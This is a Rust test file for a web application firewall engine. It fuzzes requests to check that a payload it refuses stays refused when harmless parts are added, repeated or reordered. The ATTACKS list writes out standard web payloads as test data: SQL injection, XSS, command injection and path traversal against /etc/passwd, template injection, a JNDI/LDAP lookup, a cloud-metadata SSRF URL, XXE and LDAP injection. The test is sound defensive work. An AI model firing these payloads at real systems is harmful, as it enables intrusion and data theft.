//! Adding, repeating or reordering parts of a request never softens its verdict: what is refused with its content
//! enforced stays refused. Where more is sent than is looked at, that is itself refused.

#![allow(
    clippy::panic,
    clippy::unwrap_used,
    clippy::indexing_slicing,
    reason = "a test fails by panicking"
)]

use bartizan_contract::clause_set::ClauseSet;
use bartizan_engine::keys::HashKey;
use bartizan_engine::origin::{Authority, Origin};
use bartizan_engine::replay::{Recording, replay};
use bartizan_engine::snapshot::{Rules, Snapshot};
use bartizan_engine::tables::Tables;
use bartizan_model::clause::{Mode, SetBy};
use bartizan_model::head::{Framing, HeadWriter, Version};
use bartizan_model::id::{ExchangeId, KeyEpoch};
use bartizan_model::limits::Limits;
use bartizan_model::moment::Moment;
use bartizan_model::observation::{Outcome, Phases};
use std::net::{IpAddr, Ipv4Addr};
use std::sync::Arc;

/// Requests that are made harmless otherwise.
const CASES: u32 = if cfg!(debug_assertions) { 2_500 } else { 100_000 };

/// Each is refused by itself, as a value.
const ATTACKS: &[&str] = &[
    "' OR '1'='1' --",
    "x' UNION SELECT email, password, 1 FROM users --",
    "'; DROP TABLE users;--",
    "\"><script>alert('xss')</script>",
    "<svg/onload=alert(1)>",
    "; cat /etc/passwd",
    "../../../../../../etc/passwd",
    "{{7*7}}{{config.__class__.__init__}}",
    "${jndi:ldap://a.test/x}",
    "http://169.254.169.254/latest/meta-data/",
    "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
    "*)(uid=*))(|(uid=*",
];

const HARMLESS: &[&str] = &[
    "",
    "alice",
    "17",
    "true",
    "a longer text, of some words.",
    "2026-01-31T12:00:00Z",
    "it's 5 o'clock",
    "SELECT a plan that fits; union members save.",
    "https://shop.example/a?b=c&d=e",
    "100% of <5",
    "eyJhbGciOiJub25lIn0.e30.",
    "%41+b",
    "{\"a\":\"b\"}",
    "caf\u{e9} \u{2013} \u{ff41}",
];

/// xorshift64*.
struct Dice(u64);

impl Dice {
    fn below(&mut self, sides: usize) -> usize {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        let drawn = self.0.wrapping_mul(0x2545_F491_4F6C_DD1D) >> 33;
        usize::try_from(drawn).unwrap() % sides
    }

    fn one<'a>(&mut self, of: &[&'a str]) -> &'a str {
        of[self.below(of.len())]
    }

    fn shuffle<T>(&mut self, all: &mut [T]) {
        for at in (1..all.len()).rev() {
            all.swap(at, self.below(at + 1));
        }
    }
}

/// Where parts stand; each place of [`PLACES`] has a list of them.
const PLACES: [&str; 4] = ["query", "cookie", "field", "body"];

#[derive(Clone, Copy, Debug, PartialEq)]
enum Body {
    Form,
    Json,
    Parts,
}

/// Names and values at each place.
#[derive(Clone, Debug)]
struct Request {
    at: [Vec<(String, String)>; 4],
    body: Body,
    /// Fields that say of which type the body is, or that it is another.
    types: Vec<&'static str>,
    /// How each part of a JSON body is nested.
    nesting: usize,
}

impl Request {
    fn new(dice: &mut Dice, limits: &Limits) -> Self {
        let body = [Body::Form, Body::Json, Body::Parts][dice.below(3)];
        let types = vec![match body {
            Body::Form => "application/x-www-form-urlencoded",
            Body::Json => "application/json",
            Body::Parts => "multipart/form-data; boundary=b0undary",
        }];
        let nesting = dice.below(3);
        let mut it = Self { at: Default::default(), body, types, nesting };
        for _ in 0..dice.below(4) {
            it.add(dice, 1, limits);
        }
        let (place, attack) = (dice.below(PLACES.len()), dice.one(ATTACKS).to_owned());
        let at = dice.below(it.at[place].len() + 1);
        it.at[place].insert(at, (name(dice, place), attack));
        it
    }

    /// Adds harmless parts, in any place; a field only where there is room for one.
    fn add(&mut self, dice: &mut Dice, count: usize, limits: &Limits) {
        for _ in 0..count {
            let place = dice.below(PLACES.len());
            let parts = &mut self.at[place];
            if place != 2 || parts.len() + 16 < limits.fields_max {
                let at = dice.below(parts.len() + 1);
                parts.insert(at, (name(dice, place), dice.one(HARMLESS).to_owned()));
            }
        }
    }

    fn repeat(&mut self, dice: &mut Dice) {
        let place = dice.below(PLACES.len());
        if !self.at[place].is_empty() && self.at[2].len() < 64 {
            let part = self.at[place][dice.below(self.at[place].len())].clone();
            // The same again, or another value of the same name.
            let value = if dice.below(2) == 0 { part.1 } else { dice.one(HARMLESS).to_owned() };
            let at = dice.below(self.at[place].len() + 1);
            self.at[place].insert(at, (part.0, value));
        }
    }

    /// One way to send more, or the same otherwise.
    fn changed(&mut self, dice: &mut Dice, limits: &Limits) {
        match dice.below(6) {
            0 | 1 => self.add(dice, 1, limits),
            2 => self.add(dice, 40, limits),
            3 => self.repeat(dice),
            4 => self.at.iter_mut().for_each(|it| dice.shuffle(it)),
            _ => {
                let at = dice.below(self.types.len() + 1);
                let all =
                    ["application/octet-stream", "text/plain", "image/png", "a/b; boundary=x"];
                self.types.insert(at, all[dice.below(all.len())]);
            }
        }
    }

    fn is_refused(&self, snapshot: &Arc<Snapshot>, limits: &Limits) -> bool {
        let mut writer = HeadWriter::new();
        let [query, cookies, fields, members] = &self.at;
        writer.method(b"POST");
        writer.target(format!("/orders?{}", pairs(query)).as_bytes());
        writer.field(b"host", b"shop.test");
        for (name, value) in cookies {
            writer.field(b"cookie", format!("{name}={}", encoded(value)).as_bytes());
        }
        for it in &self.types {
            writer.field(b"content-type", it.as_bytes());
        }
        for (name, value) in fields {
            writer.field(name.as_bytes(), value.as_bytes());
        }
        let body = match self.body {
            Body::Form => pairs(members),
            Body::Json => self.json(members),
            Body::Parts => parts(members),
        };
        let framing = Framing::Length(body.len().try_into().unwrap());
        let recording = Recording {
            origin: Origin {
                id: ExchangeId::new(1_700_000_000_000, 7),
                authority: Authority::Inline,
                peer: IpAddr::V4(Ipv4Addr::LOCALHOST),
                tls: false,
                certificate: None,
                certificate_digest: None,
                ja4: None,
                sees_bodies: true,
            },
            started: Moment { mono_ns: 1_000, wall_us: 1_700_000_000_000_000 },
            phases: Phases::default(),
            request: writer.request(Version::Http11, framing),
            request_body: body.into_bytes().into(),
            response: None,
        };
        let tables = Tables::new(limits.held_bytes_max);
        let replayed = replay(&recording, snapshot, &tables).unwrap();
        replayed.observation.outcome == Outcome::Refused
    }

    fn json(&self, members: &[(String, String)]) -> String {
        let quote = |text: &str| {
            let mut out = String::from("\"");
            for it in text.chars() {
                match it {
                    '"' | '\\' => out.extend(['\\', it]),
                    '\0'..' ' => out.push_str(&format!("\\u{:04x}", u32::from(it))),
                    _ => out.push(it),
                }
            }
            out + "\""
        };
        let member = |(name, value): &(String, String)| match self.nesting {
            0 => format!("{}:{}", quote(name), quote(value)),
            1 => format!("{}:[{{}},{}]", quote(name), quote(value)),
            _ => format!("{}:{{\"x\":1,\"y\":{}}}", quote(name), quote(value)),
        };
        format!("{{{}}}", members.iter().map(member).collect::<Vec<_>>().join(","))
    }
}

fn name(dice: &mut Dice, place: usize) -> String {
    let names = ["q", "name", "note", "sort", "page", "items[0]", "a.b"];
    match place {
        2 => format!("x-{}", ["a", "note", "client", "trace"][dice.below(4)]),
        _ => dice.one(&names).to_owned(),
    }
}

fn encoded(text: &str) -> String {
    text.bytes().map(|it| format!("%{it:02X}")).collect()
}

fn pairs(all: &[(String, String)]) -> String {
    let one = |(name, value): &(String, String)| format!("{}={}", encoded(name), encoded(value));
    all.iter().map(one).collect::<Vec<_>>().join("&")
}

fn parts(all: &[(String, String)]) -> String {
    let one = |(name, value): &(String, String)| {
        format!("--b0undary\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
    };
    all.iter().map(one).collect::<String>() + "--b0undary--\r\n"
}

fn check(seed: u64, cases: u32, limits: Limits) {
    let clauses = ClauseSet::new(Mode::Enforce, SetBy::Flag, &[], &[]);
    let rules = Rules::plain(clauses, limits, HashKey::new(KeyEpoch(1), [7; 16]));
    let snapshot = Arc::new(Snapshot {
        revision: 1,
        rules: Arc::new(rules),
        terms: Arc::default(),
        truth: Arc::default(),
    });
    let (mut dice, mut refused) = (Dice(seed), 0);
    for case in 0..cases {
        let first = Request::new(&mut dice, &limits);
        if !first.is_refused(&snapshot, &limits) {
            continue;
        }
        refused += 1;
        let mut changed = first.clone();
        for _ in 0..=dice.below(3) {
            changed.changed(&mut dice, &limits);
            assert!(
                changed.is_refused(&snapshot, &limits),
                "case {case}: refused\n{first:?}\nand not\n{changed:?}"
            );
        }
    }
    assert!(refused > cases / 2, "{refused} of {cases} were refused to begin with");
}

#[test]
fn more_parts_never_soften_a_verdict() {
    check(0x9E37_79B9_7F4A_7C15, CASES, Limits::default());
}

#[test]
fn more_parts_than_are_looked_at_never_soften_a_verdict() {
    let limits = Limits {
        values_max: 40,
        suspicious_bytes_max: 1_024,
        views_bytes_max: 4_096,
        ..Limits::default()
    };
    check(0x0123_4567_89AB_CDEF, CASES / 4, limits);
}
